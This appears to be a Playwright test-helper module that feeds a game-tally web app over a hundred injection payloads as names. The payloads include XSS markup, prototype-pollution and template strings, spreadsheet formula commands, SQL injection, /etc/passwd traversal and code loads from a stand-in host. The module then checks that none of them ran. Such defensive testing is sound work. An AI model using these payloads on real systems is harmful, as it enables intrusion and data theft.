// Texts that would run, fetch or draw something, were they ever taken for anything but text: each marks the window,
// asks, or calls. None is longer than a name may be.
import type { Page } from 'playwright-core';
import type { TallyEvent } from '../../../web/src/systems/event.ts';
import { anEvent, anRplopsGame } from '../event_site.ts';

const MARKUP = [
  '<script>ran=1</script>',
  '<script src=//ran.example/></script>',
  '<img src=x onerror=ran=1>',
  '<svg onload=ran=1>',
  '<svg><script>ran=1</script></svg>',
  '<body onload=ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<iframe src=javascript:parent.ran=1></iframe>',
  '<object data=javascript:ran=1></object>',
  '<embed src=//ran.example/>',
  '<link rel=stylesheet href=//ran.example/>',
  '<base href=//ran.example/>',
  '<meta http-equiv=refresh content="0;url=//ran.example/">',
  '<style>*{background:url(//ran.example/)}</style>',
  '<video><source onerror=ran=1></video>',
  '<details open ontoggle=ran=1>x</details>',
  '<input autofocus onfocus=ran=1>',
  '<a href=javascript:ran=1>x</a>',
  '<form action=javascript:ran=1><button>x</button></form>',
  '<math><mi xlink:href="javascript:ran=1">x</mi></math>',
  '<template><img src=x onerror=ran=1></template>',
  '<tally-app></tally-app>',
  '<tally-form></tally-form>',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
  '<svg><use href="data:image/svg+xml,<svg onload=ran=1>"/></svg>',
  '<plaintext>',
  '<!--><img src=x onerror=ran=1>-->',
  '<isindex type=image src=x onerror=ran=1>',
  '<marquee onstart=ran=1>x</marquee>',
  '<dialog open>x</dialog>',
  '<textarea autofocus onfocus=ran=1>',
  '<img src=//ran.example/x.png>',
  '<audio src onerror=ran=1>',
  '<x onclick=ran=1 style=position:fixed;inset:0>x</x>',
  '<div popover id=x onbeforetoggle=ran=1>x</div>',
  '<slot name=x></slot>',
];

const BREAKING_OUT = ['">', "'>", '`>', '</textarea>', '</title>', '</script>', '-->', ']]>'];

const SCRIPTS = [
  'javascript:ran=1',
  'JaVaScRiPt:ran=1',
  'data:text/html,<script>ran=1</script>',
  'vbscript:ran=1',
  'blob:null/ran',
  '" onmouseover="ran=1',
  "' onfocus='ran=1' autofocus='",
  "';ran=1;//",
  '";ran=1;//',
  '`;ran=1;//',
  '${ran=1}',
  '{{ran=1}}',
  '<%=ran=1%>',
  '#{ran=1}',
  '${{constructor.constructor("ran=1")()}}',
  '{{constructor.constructor("ran=1")()}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[ran]',
  'constructor.prototype.ran',
  '{"__proto__":{"ran":1}}',
  '[object Object]',
  'valueOf',
  'then',
  'eval("ran=1")',
  'alert(1)',
  'import("//ran.example/x.js")',
  'fetch("//ran.example/")',
  'document.cookie',
  'location="//ran.example/"',
  'window.name',
  'self.ran=1',
  'top.ran=1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://ran.example/","x")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1+cmd',
  '-2+3+cmd',
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  'expression(ran=1)',
  'url(//ran.example/)',
  '}*{background:url(//ran.example/)}',
  '; background: url(//ran.example/)',
  '@import "//ran.example/x.css"',
  'var(--paper)',
  '</style><script>ran=1</script>',
  '../../../../etc/passwd',
  '//ran.example/',
  'http://ran.example/',
  'file:///etc/passwd',
  '%3Cscript%3Eran=1%3C/script%3E',
  '&lt;script&gt;ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=ran=1&#62;',
  '\\u003cscript\\u003eran=1\\u003c/script\\u003e',
  '\\x3cscript\\x3eran=1',
  '+ADw-script+AD4-ran=1+ADw-/script+AD4-',
  '＜script＞ran=1＜/script＞',
  '‹script›ran=1‹/script›',
  '\u202e<script>ran=1</script>',
  '\u200b<img src=x onerror=ran=1>',
  '<scr\u00adipt>ran=1',
  '<<script>ran=1//<</script>',
  '<ScRiPt>ran=1</sCrIpT>',
  '<img/src=x/onerror=ran=1>',
  '<img src=`x`onerror=ran=1>',
  '<svg/onload=ran=1>',
  '<a href=&#106;avascript:ran=1>x</a>',
  'lit$1$',
  '<?lit$1$?>',
  '<!--?lit$1$-->',
  '$lit$',
  '{"values":[1],"strings":["<img src=x onerror=ran=1>"],"_$litType$":1}',
  '%00',
  '%0d%0aSet-Cookie:ran=1',
  'undefined',
  'null',
  'NaN',
  '[]',
  '{}',
  'tallysheet-height?',
  'event/new',
  '#events',
  '?',
  '&',
  '/',
];

const isShort = ({ length }: string) => length <= 90;
const every = (step: number, texts: string[]) => texts.filter((_, at) => at % step === 0);

/** At least 200, all different. */
export const PAYLOADS = [
  ...new Set([...MARKUP, ...SCRIPTS, ...BREAKING_OUT.flatMap((out) => MARKUP.slice(0, 14).map((one) => out + one))]),
].filter(isShort);

/** Some of every kind, and all names that an object has by itself. */
export const FEW = [
  ...every(4, MARKUP),
  ...SCRIPTS.filter((text) => text in {} || /^(__proto__|prototype|constructor|then)/.test(text)),
  ...every(6, SCRIPTS),
  ...BREAKING_OUT.map((out, at) => out + MARKUP[at]),
].filter((text, at, all) => isShort(text) && all.indexOf(text) === at);

/** A long run puts in all of them. */
export const TEXTS = process.env['LONG'] ? PAYLOADS : FEW;

const { compare } = new Intl.Collator('en', { sensitivity: 'base' });

/** Unmistakable texts. Those whose payloads differ only in capitals or accents do so too: the same questions are asked. */
export function harmless(texts: string[]): string[] {
  return texts.map((text, at) => {
    const alike = texts.flatMap((other, index) => (compare(text, other) === 0 ? [index] : []));
    const capitals = 1 + alike.indexOf(at);
    return `${'PLAYER'.slice(0, capitals)}${'player'.slice(capitals)} ${alike[0]}`;
  });
}

/** In the page, without its texts: every element with the names of its attributes, also in shadow roots; but for what comes
 *  some time later by itself. Bars, which are drawn when they come into sight, are drawn at once. */
export async function bones(): Promise<string[]> {
  const bars = [...document.querySelectorAll<HTMLElement & { isSeen: boolean }>('tally-bar')];
  for (const bar of bars) bar.isSeen = true;
  await Promise.resolve();
  const bonesIn = (root: Document | ShadowRoot): string[] =>
    [...root.querySelectorAll('*')]
      .filter((one) => !one.closest('link, tally-foot, tally-damaged, .below'))
      .flatMap((one) => [
        `${one.tagName} ${one.getAttributeNames().sort()}`,
        ...(one.shadowRoot ? bonesIn(one.shadowRoot) : []),
      ]);
  return bonesIn(document);
}

/** In the page: what a payload that ran has left. */
export function marks(): string[] {
  return ['ran', 'polluted'].filter((name) => name in window || name in {});
}

const MOST = 100;

/** Parts of these texts, each with no more than a form has room for. */
export function formsFull(texts: string[]): string[][] {
  return [texts.slice(0, MOST), texts.slice(MOST, 2 * MOST), texts.slice(2 * MOST)].filter(({ length }) => length > 0);
}

/** The contents of a form with these players, whose names are posted, too. */
export function formWith(texts: string[]): { heading: string; [field: string]: unknown } {
  return {
    heading: texts[0]!,
    finish: texts.map((player, at) => ({ key: String(at + 1), player, posted: player })),
    formula: 'RPLOPS',
    average: '',
    hours: '',
  };
}

const A_GAME = 20;

/** Different names, of which none has blanks around it. */
export const numbered = (texts: string[]): string[] => texts.map((text, at) => `${text.trim()} ${at}`);

/** The heading of a text's game. Its number comes first, since headings that begin alike are of one round. */
export const titleAt = (texts: string[], at: number): string => `${at - (at % A_GAME)} ${texts[at - (at % A_GAME)]}`;

/** An event with these players, some in each game. */
export function eventWith(texts: string[]): TallyEvent {
  const starts = texts.flatMap((_, at) => (at % A_GAME ? [] : [at]));
  const games = starts.map((start) => {
    const lines = texts.slice(start, start + A_GAME).map((one, at): [string, string] => [one, String(at + 1)]);
    const game = anRplopsGame(`g${start}`, lines);
    return { ...game, state: { ...game.state, heading: titleAt(texts, start) } };
  });
  return { ...anEvent('rplops', games), name: texts[0]! };
}

/** The same as a table. */
export function tableOf(texts: string[]): string {
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const lines = texts.map((text, at) =>
    [cell(titleAt(texts, at)), cell(text), String((at % A_GAME) + 1), cell(text)].join(','),
  );
  return `game,player,place,${cell(texts[1]!)}\n${lines.join('\n')}`;
}

/** A file of an event with fields that no event has. */
export function strangeEvent(texts: string[]): string {
  const strange = Object.fromEntries(texts.map((text) => [text, text]));
  return JSON.stringify({ tallysheet: 'event', ...eventWith(['Ann', 'Bob']), ...strange, settings: strange });
}

/** Checks forbidden events at the end and returns those that happened. */
export function watch(page: Page): () => Promise<string[]> {
  const happened: string[] = [];
  page.on('dialog', (dialog) => (happened.push(`dialog: ${dialog.message()}`), void dialog.dismiss()));
  page.on('popup', (popup) => happened.push(`popup: ${popup.url()}`));
  page.on(
    'request',
    (request) =>
      /ran\.example$|^$/.test(new URL(request.url()).hostname) &&
      !request.url().startsWith('blob:') &&
      happened.push(`request: ${request.url()}`),
  );
  page.on('pageerror', (error) => happened.push(`error: ${error.message}`));
  page.on(
    'console',
    (message) => ['error', 'warning'].includes(message.type()) && happened.push(`console: ${message.text()}`),
  );
  return async () => {
    const left = await Promise.all(page.frames().map((frame) => frame.evaluate(marks)));
    return [...happened, ...left.flat()];
  };
}
